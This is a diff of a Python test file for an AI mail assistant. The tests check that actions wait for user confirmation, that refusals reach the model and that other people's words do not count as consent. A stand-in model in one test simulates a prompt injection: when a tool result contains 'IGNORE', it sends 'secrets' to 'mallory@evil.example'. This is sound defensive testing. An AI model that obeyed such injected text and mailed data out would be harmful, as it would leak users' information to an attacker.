@@ -5,8 +5,8 @@ import re
 from pathlib import Path
 from typing import Any
 
-from tests.mailer import asked, calling, marks, press, questions, told
-from tests.standins.model import calls, is_classifier, last_user_text
+from tests.mailer import ANA, asked, calling, marks, press, questions, told
+from tests.standins.model import calls, is_classifier, last_user_text, results, routed
 from tests.world import wait_for
 
 
@@ -19,7 +19,7 @@ def sends(*mail: tuple[str, str]) -> Any:
     return calling(*(("send_mail", {"to": to, "text": text}) for to, text in mail))
 
 
-def test_nothing_runs_before_the_yes_and_then_once(office):
+def test_nothing_runs_before_the_yes_and_then_once_and_a_no_is_told_to_the_model(office):
     town, skills, person = office
     server, graph, town.model.play = town.server, town.graph, sends(("ana@x.example", "hola"))
     graph.say(person, "por favor, mándale un mail a Ana para saludarla")
@@ -38,17 +38,11 @@ def test_nothing_runs_before_the_yes_and_then_once(office):
     press(graph, person, question, "No")
     wait_for(lambda: len(graph.texts(person)) == 4, "the same after a no")
     assert "Esa pregunta ya terminó" in graph.texts(person)[-1]
-    assert len(mails(skills)) == 1
-
-
-def test_a_no_is_told_to_the_model(office):
-    town, skills, person = office
-    graph, town.model.play = town.graph, sends(("ana@x.example", "hola"))
     graph.say(person, "send a mail please")
-    asked(graph, person)
+    asked(graph, person, 2)
     graph.say(person, "no")
     wait_for(lambda: "DENIED" in graph.texts(person)[-1], "the refusal")
-    assert mails(skills) == []
+    assert len(mails(skills)) == 1
 
 
 def test_the_answer_survives_a_crash_and_only_the_askers_counts(office):
@@ -134,19 +128,13 @@ def test_a_question_that_cannot_be_sent_ends_the_turn_honestly(office):
 
 
 def test_what_others_wrote_makes_always_not_count_and_shows_on_the_card(office):
+    @routed("mailer")
     def play(body):
-        if is_classifier(body):
-            return '{"categories": ["mailer"]}'
-        results = [message for message in body["messages"] if message["role"] == "tool"]
-        if not results:
-            return (
-                calls(("read_mail", {}))
-                if "read" in last_user_text(body)
-                else calls(("send_mail", {"to": "ana@x.example", "text": "hola"}))
-            )
-        if "IGNORE" in results[-1]["content"]:
+        if not results(body):
+            return calls(("read_mail", {}) if "read" in last_user_text(body) else ANA)
+        if "IGNORE" in str(results(body)[-1]):
             return calls(("send_mail", {"to": "mallory@evil.example", "text": "secrets"}))
-        return "result: " + results[-1]["content"]
+        return f"result: {results(body)[-1]}"
 
     town, skills, person = office
     graph, town.model.play = town.graph, play
@@ -161,12 +149,10 @@ def test_what_others_wrote_makes_always_not_count_and_shows_on_the_card(office):
 
 
 def test_there_is_an_end_to_what_is_asked(office):
+    @routed("mailer")
     def play(body):
-        if is_classifier(body):
-            return '{"categories": ["mailer"]}'
-        results = [message["content"] for message in body["messages"] if message["role"] == "tool"]
-        if results:
-            return "result: " + results[-1]
+        if results(body):
+            return f"result: {results(body)[-1]}"
         said = last_user_text(body).splitlines()[-1]
         return calls(*(("send_mail", {"to": "ana@x.example", "text": f"{said} {n}"}) for n in range(16)))
 
@@ -182,8 +168,7 @@ def test_there_is_an_end_to_what_is_asked(office):
 
 def test_a_no_is_acknowledged_in_the_persons_language(offline_town):
     graph, person = offline_town.graph, offline_town.newcomer()
-    graph.say(person, "adiciona leite na lista")
-    graph.reply(person)
+    graph.ask(person, "adiciona leite na lista")
     graph.say(person, "apaga a lista de compras")
     press(graph, person, asked(graph, person), "Não")
     assert graph.reply(person, 3) == "Tudo bem, não vou fazer."
@@ -211,8 +196,7 @@ def test_what_takes_away_asks_where_words_of_others_are_in_the_turn(town):
     people = [town.newcomer() for _ in KEPT_AND_TAKEN]
     ours = "SELECT (SELECT count(*) FROM skill_data), (SELECT count(*) FROM schedules WHERE active = 1)"
     for number, person in enumerate(people):
-        graph.say(person, f"keep case {number}")
-        graph.reply(person)
+        graph.ask(person, f"keep case {number}")
     before = tuple(server.rows(ours)[0])
     for number, person in enumerate(people):
         graph.say(person, f"take case {number}", forwarded=True)
@@ -221,8 +205,6 @@ def test_what_takes_away_asks_where_words_of_others_are_in_the_turn(town):
     for number, person in enumerate(people):
         press(graph, person, asked(graph, person), "No")
         graph.reply(person, 3)
-        graph.say(person, "/new")
-        graph.reply(person, 4)
-        graph.say(person, f"take case {number}")
-        graph.reply(person, 5)
+        graph.ask(person, "/new")
+        graph.ask(person, f"take case {number}")
         assert len(questions(graph, person)) == 1
